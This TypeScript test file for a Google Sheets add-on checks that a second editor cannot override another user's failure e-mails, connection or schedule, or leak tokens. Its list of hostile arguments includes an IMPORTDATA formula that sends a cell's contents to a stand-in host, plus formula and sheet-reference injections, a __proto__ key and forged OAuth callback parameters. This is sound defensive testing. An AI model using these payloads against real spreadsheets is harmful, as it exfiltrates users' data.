/**
 * Attack (role 2, another editor of the spreadsheet): user A connected, set the hourly schedule
 * and opted in to failure e-mails; editor B runs the add-on's globals (the menu, or
 * google.script.run from the sidebar, which may call any global with any JSON arguments). Each
 * test asserts the SAFE behaviour; a failing test is a finding.
 */
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { SheetModel } from '../../dev/gas-runtime/spreadsheet/sheet-model';
import type { Workbook } from '../../dev/gas-runtime/spreadsheet/workbook';
import { deleteColumns } from '../../dev/gas-runtime/spreadsheet/column-edits';
import { sidebarConnection } from '../../dev/harness/inspect';
import { scheduleTrigger, sheetTable } from '../integration/sync-support';
import { startReliabilityStack, type ReliabilityStack } from './support/reliability-stack';
import { triggerUntilSettled, tokensIn } from './support/verdict';

const B = 'editor-b@example.com';
let stack: ReliabilityStack | undefined;

afterEach(async () => {
  await stack?.close();
  stack = undefined;
});

/** A connected, scheduled, synced spreadsheet whose connector (A, the runtime's default user) opted in to failure e-mails. */
async function aSetUp(): Promise<{ s: ReliabilityStack; trigger: string }> {
  const s = (stack = await startReliabilityStack({ orders: 20, seed: 11 }));
  const trigger = await scheduleTrigger(s);
  expect((await triggerUntilSettled(s, trigger)).outcome).toBe('ok');
  const optIn = await s.runtime.run('setFailureNotices', [true]);
  expect(optIn.value).toMatchObject({ on: true, email: 'user@example.com' });
  return { s, trigger };
}

/**
 * A managed column of Daily P&L deleted (a renamed heading is followed by its column tag; a deleted
 * column takes its tag with it): A's next scheduled run writes Orders, then fails with sheet_layout,
 * which needs a person (an e-mail).
 */
function deleteDailyColumn(s: ReliabilityStack): void {
  const workbook = s.runtime.workbook as unknown as Workbook;
  const column = sheetTable(s, 'Daily P&L')[0]!.indexOf('net_profit') + 1;
  expect(column).toBeGreaterThan(0);
  deleteColumns(workbook, workbook.sheetByName('Daily P&L') as SheetModel, column, 1);
}

describe("another editor and the connector's failure e-mails", () => {
  for (const bSends of [false, true]) {
    it(`B's setFailureNotices(${bSends}) does not stop A's failure e-mail`, async () => {
      const { s, trigger } = await aSetUp();
      const byB = await s.runtime.run('setFailureNotices', [bSends], { user: B });
      // Either refused, or it concerns B alone: A's opt-in must survive.
      void byB;
      deleteDailyColumn(s);
      const fired = await s.runtime.fireTrigger(trigger);
      expect(fired.value).toMatchObject({ outcome: 'error' });
      // Today: B's call replaced A's opt-in (off, or B as the recipient, whom A's trigger never mails): no e-mail at all.
      expect(s.runtime.mail.map((m) => m.to.join(','))).toEqual(['user@example.com']);
    }, 120_000);
  }
});

describe("another editor and the connector's connection and schedule", () => {
  it("B's Disconnect does not end A's connection nor pause the schedule A set (setSchedule refuses B the same change)", async () => {
    const { s } = await aSetUp();
    const off = await s.runtime.run('setSchedule', [{ mode: 'off' }], { user: B });
    expect(off.ok).toBe(false);
    expect(off.error?.message).toContain('only they can change it or turn it off');
    await s.runtime.run('disconnectStore', [], { user: B });
    const a = await s.runtime.run('getSidebarState', []);
    const view = a.value as {
      connection: { state: string };
      schedule: { mode: string; owner: string | null; note: unknown };
    };
    // Today: A's sidebar shows not_connected and the schedule's owner is forgotten; B's shows it paused.
    expect({ connection: view.connection.state, owner: view.schedule.owner }).toEqual({
      connection: 'connected',
      owner: 'user@example.com',
    });
  }, 120_000);
});

/*
 * One execution per global and argument set: 29 × 9 of them, each a worker loading the bundle. They
 * share one set-up, and each global is its own test with its own time, so a host loaded many times
 * over (each execution taking seconds) does not add them all up against one limit.
 */
describe('B calling every other global with hostile arguments: no token anywhere, and A keeps connection, schedule and opt-in', () => {
  let s: ReliabilityStack;
  let deep: unknown = 'x';
  for (let i = 0; i < 500; i++) deep = [deep];
  const hostile: unknown[][] = [
    [],
    [null],
    [{}],
    ['=IMPORTDATA("https://x.example/?d="&A1)'],
    [{ createdAfter: '=1+1' }],
    [{ month: "2026-10'!A1" }],
    [{ orders: { choice: 'custom', columns: ['=1+1', '__proto__'] } }],
    [deep],
    [{ parameter: { code: 'forged', state: 'forged', flow: 'forged', sheet: 'forged' } }],
  ];
  const globals = [
    'getSidebarState',
    'getSidebarStamp',
    'beginConnect',
    'startSync',
    'cancelSync',
    'runSyncStep',
    'setSchedule',
    'setOrdersWindow',
    'setColumns',
    'closeMonth',
    'insertDashboard',
    'checkApiConnection',
    'onScheduledSync',
    'reconcileOrdersNow',
    'tieOutNow',
    'refreshFormulasFromMenu',
    'syncNowFromMenu',
    'showEnvironmentCheck',
    'showHelp',
    'showSidebar',
    'authCallback',
    'onOpen',
    'PROFIT_SUMMARY',
    'PROFIT_DAILY',
    'PROFIT_MONTHLY',
    'MA_FRESHNESS',
    'PROFIT_ORDER',
    'PRODUCT_COST',
    'PROFIT_TIEOUT',
  ];

  beforeAll(async () => {
    s = (await aSetUp()).s;
    // Kept for the whole describe: the file's afterEach closes only a stack a single test set up.
    stack = undefined;
  }, 300_000);

  afterAll(async () => {
    await s?.close();
  });

  for (const name of globals) {
    it(`B's ${name} with every hostile argument set: no token anywhere`, async () => {
      for (const args of hostile) {
        const r = await s.runtime.run(name, args, { user: B, timeLimitMs: 60_000 });
        s.outputs.push(JSON.stringify(r));
      }
      expect(await tokensIn(s)).toEqual([]);
    }, 300_000);
  }

  it('after all of them, A keeps connection, schedule and opt-in', async () => {
    const a = await s.runtime.run('getSidebarState', []);
    const view = a.value as { connection: { state: string }; schedule: { mode: string; owner: string | null } };
    expect({ connection: view.connection.state, mode: view.schedule.mode, owner: view.schedule.owner }).toEqual({
      connection: 'connected',
      mode: 'hourly',
      owner: 'user@example.com',
    });
    expect(s.runtime.properties.document.get('ma.failure-notice')).toContain('user@example.com');
    expect((await sidebarConnection(s.runtime)).state).toBe('connected');
  }, 120_000);
});
